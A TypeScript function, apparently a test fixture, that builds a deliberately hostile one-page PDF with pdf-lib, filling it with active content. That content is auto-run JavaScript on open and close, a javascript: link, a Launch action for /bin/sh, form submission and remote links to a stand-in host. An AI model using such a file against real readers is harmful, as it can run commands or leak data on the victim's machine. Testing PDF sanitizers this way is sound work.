import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'

/** A PDF of one page that tries to run scripts and programs and to load from elsewhere, when it is opened, shown or clicked. */
export async function hostilePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  const { context, catalog } = pdf
  const page = pdf.addPage([300, 400])
  page.drawText('A page of a hostile book', { x: 30, y: 350, size: 14 })
  const script = { S: 'JavaScript', JS: PDFString.of('app.alert("ran"); this.submitForm("https://elsewhere.example/form")') }
  const toElsewhere = { S: 'URI', URI: PDFString.of('https://elsewhere.example/') }
  const annotations = [
    { Subtype: 'Link', A: toElsewhere },
    { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('javascript:alert("ran")') } },
    { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('/bin/sh') } },
    { Subtype: 'Link', A: { S: 'GoToR', F: PDFString.of('https://elsewhere.example/other.pdf'), D: [0, 'Fit'] } },
    { Subtype: 'Widget', FT: 'Btn', T: PDFString.of('button'), A: script, AA: { E: script, U: script } },
    { Subtype: 'Screen', A: { S: 'Rendition', JS: PDFString.of('app.alert("ran")') } },
  ].map((annotation) => context.register(context.obj({ Type: 'Annot', Rect: [0, 0, 300, 400], F: 4, ...annotation } as object as never)))
  page.node.set(PDFName.of('Annots'), context.obj(annotations))
  page.node.set(PDFName.of('AA'), context.obj({ O: script, C: script } as object as never))
  catalog.set(PDFName.of('OpenAction'), context.obj(script as object as never))
  catalog.set(PDFName.of('AA'), context.obj({ WC: script, DS: script } as object as never))
  pdf.addJavaScript('start', 'app.launchURL("https://elsewhere.example/", true)')
  // An outline whose only line leads elsewhere.
  const outlines = context.nextRef()
  const line = context.register(context.obj({ Title: PDFString.of('Elsewhere'), Parent: outlines, A: toElsewhere } as object as never))
  context.assign(outlines, context.obj({ Type: 'Outlines', First: line, Last: line, Count: 1 } as object as never))
  catalog.set(PDFName.of('Outlines'), outlines)
  return Buffer.from(await pdf.save({ useObjectStreams: false }))
}
